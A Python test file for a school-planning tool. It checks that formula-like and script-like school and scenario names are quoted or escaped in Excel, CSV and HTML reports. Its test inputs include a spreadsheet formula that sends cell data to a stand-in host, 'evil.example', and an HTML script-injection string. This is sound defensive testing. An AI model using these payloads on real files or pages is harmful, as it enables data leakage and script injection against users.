"""Issue 14, cases 3, 8 and 9: names that are hostile or pasted from Word give outputs safe to open.

A tiny county of CSV layers (5 schools, 12 blocks, 40 teachers, no roads) runs every stage through the
command line; the school names and the scenario name are what the issue tried.
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest

from planning.app import cli
from planning.app.writer import csv_bytes, excel_bytes

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "@SUM(A1)", "-2+3", "+1"]
SCRIPT = "</title><script>alert('name')</script>"
#: (id, level, area, primary seats, junior seats, primary pupils, junior pupils)
SCHOOLS = (
    ("S1", "primary", "urban", 600, 0, 500, 0),
    ("S2", "primary", "rural", 300, 0, 120, 0),
    ("S3", "primary", "town", 400, 0, 300, 0),
    ("S4", "junior", "urban", 0, 600, 0, 400),
    ("S5", "nine_year", "rural", 300, 300, 150, 100),
)
SUBJECTS = ("chinese", "math", "english", "pe", "music", "art")


def _csv_field(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _toml_string(text: str) -> str:
    """A TOML basic string; control characters as ``\\uXXXX`` escapes (TOML allows them no other way)."""
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return '"' + re.sub("[\x00-\x1f\x7f]", lambda m: f"\\u{ord(m.group()):04x}", escaped) + '"'


def write_county(folder: Path, names: list[str], *, scenario_name: str) -> Path:
    """Write the tiny county with these school names; returns its ``scenario.toml``."""
    folder.mkdir(parents=True)
    rows = ["school_id,name,level,area_type,capacity_primary,capacity_junior,enrolled_primary,enrolled_junior,"
            "floor_area_m2,sports_area_m2,equipment_yuan,multimedia_rooms,computers,books,lon,lat"]
    for k, ((sid, level, area, cp, cj, ep, ej), name) in enumerate(zip(SCHOOLS, names, strict=True)):
        rows.append(f"{sid},{_csv_field(name)},{level},{area},{cp},{cj},{ep},{ej},{2000 + 300 * k},{3000 + 200 * k},"
                    f"{800000 + 1000 * k},{5 + k},{50 + k},{9000 + k},{110.20 + 0.02 * k:.4f},{37.10 + 0.01 * (k % 2):.4f}")
    (folder / "schools.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    blocks = ["block_id,name,students_primary,students_junior,lon,lat"]
    blocks += [f"B{k:02d},小区{k},{60 + 5 * k},{30 + 2 * k},{110.19 + 0.009 * k:.4f},{37.095 + 0.002 * (k % 5):.4f}" for k in range(12)]
    (folder / "blocks.csv").write_text("\n".join(blocks) + "\n", encoding="utf-8")
    teachers = ["teacher_id,school_id,subject,backbone,above_qualification,title,years_at_school,age,sex,level"]
    teachers += [
        f"T{8 * i + j:03d},{sid},{SUBJECTS[j % 6]},{'yes' if j % 4 == 0 else 'no'},yes,{('junior', 'intermediate', 'senior')[j % 3]},"
        f"{6 + j},{30 + j},{'MF'[j % 2]},{'junior' if level == 'junior' else 'primary'}"
        for i, (sid, level, *_) in enumerate(SCHOOLS) for j in range(8)
    ]
    (folder / "teachers.csv").write_text("\n".join(teachers) + "\n", encoding="utf-8")
    scenario = folder / "scenario.toml"
    scenario.write_text(
        f"name = {_toml_string(scenario_name)}\nseed = 1\n\n"
        '[inputs]\nschools = "schools.csv"\nblocks = "blocks.csv"\nteachers = "teachers.csv"\ncrs = "wgs84"\n\n'
        "[solver]\ntime_limit_s = 2.0\nworkers = 1\n\n[balance]\n[zones]\n[communities]\n"
        '[rotation]\nquota_scope = "county"\n\n[report]\nmap_per_stage = true\n',
        encoding="utf-8",
    )
    return scenario


def _run(scenario: Path, out: Path) -> int:
    return cli.main(["run", str(scenario), "--out", str(out), "--quiet", "--workers", "1"])


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The county with formula-like school names and a scenario name that closes ``<title>``, run; its output folder."""
    base = tmp_path_factory.mktemp("hostile")
    out = base / "out"
    assert _run(write_county(base / "in", FORMULAS, scenario_name=SCRIPT), out) == cli.EXIT_OK
    return out


def _sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")}


def test_issue14_case9_formula_like_names_are_text_in_report_xlsx(hostile_run: Path) -> None:
    path = hostile_run / "report.xlsx"
    for name, xml in _sheet_xml(path).items():
        assert "<f>" not in xml and "<f " not in xml, f"{name} holds a formula"
    wb = openpyxl.load_workbook(path)
    for sheet in ("初中片区", "学校均衡", "学校交流"):
        cells = {c.value: c for row in wb[sheet].iter_rows() for c in row if isinstance(c.value, str)}
        present = [f for f in FORMULAS if f in cells]
        assert present, f"{sheet} shows no school name"
        for text in present:
            cell = cells[text]  # the very text, shown as it is
            assert cell.data_type == "s", (sheet, text)
            assert cell.quotePrefix == (text != "+1"), (sheet, text)  # "+1" is a number's text: nothing to run
    numbers = [c.value for row in wb["学校均衡"].iter_rows(min_row=2) for c in row if isinstance(c.value, int | float)]
    assert numbers, "numbers stay numbers"


def test_issue14_case9_formula_like_names_are_quoted_in_csv_outputs(hostile_run: Path) -> None:
    table = pd.read_csv(hostile_run / "balance" / "schools_balance.csv", encoding="utf-8-sig", dtype={"name": str})
    names = dict(zip(table["school_id"], table["name"], strict=False))
    assert names["S1"] == "'" + FORMULAS[0]
    assert names["S2"] == "'=1+1"
    assert names["S3"] == "'@SUM(A1)"
    assert names["S4"] == "'-2+3"
    assert names["S5"] == "+1"  # read as the number 1 by a spreadsheet: harmless, left alone
    for csv in hostile_run.rglob("*.csv"):
        for line in csv.read_text(encoding="utf-8-sig").splitlines():
            for cell in re.findall(r'(?:^|,)("(?:[^"]|"")*"|[^,]*)', line):
                text = cell[1:-1].replace('""', '"') if cell.startswith('"') else cell
                assert not re.match(r"[=@\t\r]|[-+](?![\d.]+(?:[eE][-+]?\d+)?$)", text), f"{csv.name}: {text!r}"


def test_issue14_case8_scenario_name_is_escaped_in_every_page(hostile_run: Path) -> None:
    pages = sorted(hostile_run.glob("*.html")) + sorted((hostile_run / "maps").glob("*.html"))
    assert {p.name for p in pages} >= {"map.html", "report.html", "zones.html"}
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text, page.name
        assert "<title>&lt;/title&gt;&lt;script&gt;alert(&#x27;name&#x27;)&lt;/script&gt;" in text, page.name


@pytest.mark.filterwarnings("always::geo.validate.InputWarning")  # the command line prints it
def test_issue14_case3_control_characters_in_names(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    names = ["一小\x0b", "二小\x07", "三\x00小", "初中\x1b", "九年\u202e制"]
    scenario = write_county(tmp_path / "in", names, scenario_name="tiny\x07")
    out = tmp_path / "out"
    assert _run(scenario, out) == cli.EXIT_OK
    err = " ".join(capsys.readouterr().err.split())
    assert ("schools.csv, column 'name': invisible control characters (U+0007, U+0000, U+001B) removed in 3 rows "
            "(school_id S2, school_id S3, school_id S4)") in err
    wb = openpyxl.load_workbook(out / "report.xlsx")
    shown = {c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert {"一小", "二小", "三小", "初中"} <= shown
    assert "九年制" in shown  # the right-to-left override is dropped from what a reader sees ...
    zones = gpd.read_file(out / "zones" / "primary" / "zones.gpkg")
    assert "三小" in set(zones["name"])  # a NUL no longer cuts the name short in the GeoPackage
    balance = pd.read_csv(out / "balance" / "schools_balance.csv", encoding="utf-8-sig")
    assert "九年\u202e制" in set(balance["name"])  # ... but kept in the data (it may be part of a Uyghur name)
    control = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
    for path in out.rglob("*"):
        if path.suffix in {".csv", ".html", ".json"}:
            assert not control.search(path.read_text(encoding="utf-8")), path.name


# --------------------------------------------------------------------------- the writer alone

TABLE = pd.DataFrame({
    "name": pd.array(["=1+1", "-2+3", "@SUM(A1)", "\tx", "#N/A", "城关一小", None], dtype="str"),
    "id": ["-5", "+3.2", "=A", "b", "c", "d", "e"],
    "level": pd.Categorical(["=x", "primary", "primary", "junior", "junior", "primary", "junior"]),
    "delta": [-1, -2, 0, 3, -4, 5, -6],
    "share": [-0.5, 0.25, float("nan"), -1e-3, 0.0, 1.0, -2.5],
})


def test_issue14_case9_excel_cells_are_text_numbers_stay_numbers(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    path.write_bytes(excel_bytes({"t": TABLE.rename(columns={"id": "=id"})}))
    xml = _sheet_xml(path)["xl/worksheets/sheet1.xml"]
    assert "<f>" not in xml and 't="e"' not in xml  # no formula, no error cell ("#N/A" is a name)
    ws = openpyxl.load_workbook(path)["t"]
    header = [c.value for c in ws[1]]
    assert header == ["name", "=id", "level", "delta", "share"]
    assert ws["B1"].quotePrefix
    column = {c.value: c for c in ws["A"][1:]}
    for text in ("=1+1", "-2+3", "@SUM(A1)", "\tx"):
        assert column[text].data_type == "s" and column[text].quotePrefix, text
    assert column["#N/A"].data_type == "s" and not column["#N/A"].quotePrefix
    assert not column["城关一小"].quotePrefix
    assert [c.value for c in ws["B"][1:3]] == ["-5", "+3.2"]  # texts that are numbers stay texts, unflagged
    assert not ws["B2"].quotePrefix
    assert [c.value for c in ws["D"][1:]] == [-1, -2, 0, 3, -4, 5, -6]
    assert ws["E2"].value == -0.5 and ws["E2"].data_type == "n"


def test_issue14_case9_csv_quotes_formula_like_texts_only() -> None:
    data = csv_bytes(TABLE)
    assert data == csv_bytes(TABLE)  # deterministic
    lines = data.decode("utf-8-sig").split("\n")
    assert lines[0] == "name,id,level,delta,share"
    assert lines[1] == "'=1+1,-5,'=x,-1,-0.5"
    assert lines[2] == "'-2+3,+3.2,primary,-2,0.25"
    assert lines[3] == "'@SUM(A1),'=A,primary,0,"
    assert lines[4] == "'\tx,b,junior,3,-0.001"
    assert lines[5] == "#N/A,c,junior,-4,0.0"
    assert lines[7] == ",e,junior,-6,-2.5"  # missing stays empty
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert back["delta"].tolist() == TABLE["delta"].tolist()
    assert TABLE["name"].iloc[0] == "=1+1"  # the table given is not changed


def test_issue14_case3_excel_drops_control_characters() -> None:
    table = pd.DataFrame({"name": ["一小\x0b", "二\x00小\x07", "九年\u202e制", "a\tb\nc"]})
    wb = openpyxl.load_workbook(io.BytesIO(excel_bytes({"t": table})))
    assert [c.value for c in wb["t"]["A"][1:]] == ["一小", "二小", "九年制", "a\tb\nc"]


@pytest.mark.filterwarnings("always::geo.validate.InputWarning")  # the command line prints it
def test_issue14_case3_warning_quoting_a_name_is_printed_as_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A warning naming a row whose id looks like console markup (``[/b]``) is printed as it is, not a traceback."""
    scenario = write_county(tmp_path / "in", ["一小", "二小\x07", "三小", "初中", "九年制"], scenario_name="tiny")
    for name in ("schools.csv", "teachers.csv"):
        path = tmp_path / "in" / name
        path.write_text(re.sub(r"(?m)(^|,)S2,", r"\1[/b]S2,", path.read_text(encoding="utf-8")), encoding="utf-8")
    assert cli.main(["validate", str(scenario)]) == cli.EXIT_OK
    assert "removed in 1 rows (school_id [/b]S2)" in " ".join(capsys.readouterr().err.split())
